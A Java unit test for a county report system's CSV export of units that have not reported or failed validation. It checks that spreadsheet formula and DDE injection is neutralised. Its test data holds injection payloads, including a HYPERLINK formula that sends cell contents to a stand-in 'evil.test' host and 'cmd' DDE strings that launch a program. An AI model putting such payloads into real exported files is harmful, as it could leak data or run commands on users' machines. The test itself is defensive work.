package cn.gov.county.gkreport.chase;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.Reader;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import cn.gov.county.gkreport.deadline.Timeliness;
import cn.gov.county.gkreport.intake.RosterUnit;
import cn.gov.county.gkreport.intake.UnitType;
import cn.gov.county.gkreport.report.UnitStanding.Standing;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The chase list as the office opens it: given contacts and file names as clerks type them
 * (formulas, DDE commands, quotes, commas, line breaks, phone numbers with a leading zero or many
 * digits), when the list is written, then an RFC 4180 reader reads every row back with all its
 * fields, no cell is a formula a clerk wrote, no phone number turns into a number, and the text
 * each clerk typed can be read back from every cell.
 */
class ChaseListCsvTest {

    /** A spreadsheet takes a cell starting with one of these for a formula (or a DDE command). */
    private static final String FORMULA_STARTS = "=+-@\t\r";
    /** The one formula the writer may put in a cell: digits kept as text. */
    private static final Pattern DIGITS_AS_TEXT = Pattern.compile("=\"(\\d+)\"");

    private static final List<String[]> TYPED = List.of(
            // contact person, phone, last file
            new String[] {"=HYPERLINK(\"http://evil.test/?\"&A1,\"点此查看\")", "03563066891", "年报,\"最终\"版.xlsx"},
            new String[] {"+cmd|' /C calc'!A0", "0356-3066891", "=1+1.xlsx"},
            new String[] {"-2+3", "13912345678", "@SUM(A1:A9).xlsx"},
            new String[] {"@SUM(1+1)*cmd|' /C calc'!A0", "8613912345678", "-年报.xlsx"},
            new String[] {"\t=1+1", "+86 356 3066891", "年报.xlsx"},
            new String[] {"张三, 李四", "0356 3066891", "\"引号\"开头.xlsx"},
            new String[] {"王\"老五\"", "0", " 前后空格 "},
            new String[] {"第一行\r\n=1+1\n第三行", "00123", "年报\n.xlsx"});

    @Test
    void everyCellReadsBackAsTheTextTypedAndNoneIsAFormula(@TempDir Path dir) throws Exception {
        List<ChaseList.Entry> entries = new ArrayList<>();
        for (int i = 0; i < TYPED.size(); i++) {
            String[] t = TYPED.get(i);
            entries.add(new ChaseList.Entry(new RosterUnit("T%02d".formatted(i + 1), "镇" + i, UnitType.TOWN),
                    i % 2 == 0 ? Standing.REJECTED : Standing.MISSING, i % 2 == 0 ? ChaseReason.REJECTED : ChaseReason.MISSING,
                    new Timeliness("逾期 2 天（2025-02-02）", "未通过（已逾期 5 天）"), t[2], "2025-01-20 09:0" + i, 3, 1, t[0],
                    t[1], "u" + i + "@town.test", null, "截至2025年1月20日，尚未收到, 请于\"1月31日\"前报送", null));
        }
        Path file = dir.resolve("催报名单-2024.csv");

        ChaseListCsv.write(file, entries);

        byte[] bytes = Files.readAllBytes(file);
        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        // one physical line per unit: line breaks a clerk typed are spaces
        assertThat(text.split("\r\n", -1)).hasSize(TYPED.size() + 2).endsWith("");
        List<CSVRecord> records;
        try (Reader in = new StringReader(text);
             CSVParser parser = CSVFormat.RFC4180.builder().setHeader().get().parse(in)) {
            assertThat(parser.getHeaderNames()).containsExactly(ChaseListCsv.HEADER);
            records = parser.getRecords();
        }
        assertThat(records).hasSize(TYPED.size());
        for (int i = 0; i < TYPED.size(); i++) {
            CSVRecord r = records.get(i);
            String[] t = TYPED.get(i);
            assertThat(r.size()).as("row %d", i).isEqualTo(ChaseListCsv.HEADER.length);
            for (String cell : r.values()) {
                assertThat(isFormula(cell) && !DIGITS_AS_TEXT.matcher(cell).matches())
                        .as("row %d: %s is a formula", i, cell).isFalse();
            }
            assertThat(typed(r.get("联系人"))).isEqualTo(oneLine(t[0]));
            assertThat(typed(r.get("联系电话"))).isEqualTo(t[1]);
            assertThat(typed(r.get("最近报送文件"))).isEqualTo(oneLine(t[2]));
            assertThat(r.get("电子邮箱")).isEqualTo("u" + i + "@town.test");
            assertThat(r.get("催报内容")).isEqualTo("截至2025年1月20日，尚未收到, 请于\"1月31日\"前报送");
            assertThat(r.get("错误数")).isEqualTo(i % 2 == 0 ? "3" : "");
            assertThat(r.get("上次催报")).isEmpty();
            assertThat(r.get("催报原因")).isEqualTo(i % 2 == 0 ? "未通过校验" : "未报送");
            assertThat(r.get("首次报送")).isEqualTo("逾期 2 天（2025-02-02）");
            assertThat(r.get("首个通过版本")).isEqualTo("未通过（已逾期 5 天）");
        }
    }

    @Test
    void phoneNumbersASpreadsheetWouldTurnIntoNumbersStayDigitsAsText() {
        assertThat(ChaseListCsv.cell("03563066891")).isEqualTo("=\"03563066891\"");
        assertThat(ChaseListCsv.cell("00123")).isEqualTo("=\"00123\"");
        assertThat(ChaseListCsv.cell("8613912345678")).isEqualTo("=\"8613912345678\"");
        // what a spreadsheet shows unchanged stays as typed
        assertThat(ChaseListCsv.cell("13912345678")).isEqualTo("13912345678");
        assertThat(ChaseListCsv.cell("0356-3066891")).isEqualTo("0356-3066891");
        assertThat(ChaseListCsv.cell("0")).isEqualTo("0");
    }

    @Test
    void formulaLikeTextGetsTheApostropheNeutraliser() {
        for (String typed : List.of("=1+1", "+1", "-1", "-2+3", "@SUM(1)", "\t=1+1", "=\"0356\"")) {
            assertThat(ChaseListCsv.cell(typed)).as(typed).isEqualTo("'" + typed);
        }
        assertThat(ChaseListCsv.cell("\r=1+1")).isEqualTo(" =1+1");
        assertThat(ChaseListCsv.cell(null)).isEmpty();
    }

    private static boolean isFormula(String cell) {
        return !cell.isEmpty() && FORMULA_STARTS.indexOf(cell.charAt(0)) >= 0;
    }

    /** The text a clerk typed, from a cell as the spreadsheet shows it. */
    private static String typed(String cell) {
        Matcher digits = DIGITS_AS_TEXT.matcher(cell);
        if (digits.matches()) {
            return digits.group(1);
        }
        if (cell.length() > 1 && cell.charAt(0) == '\'' && FORMULA_STARTS.indexOf(cell.charAt(1)) >= 0) {
            return cell.substring(1);
        }
        return cell;
    }

    private static String oneLine(String s) {
        return s.replace("\r\n", " ").replace('\n', ' ').replace('\r', ' ');
    }
}
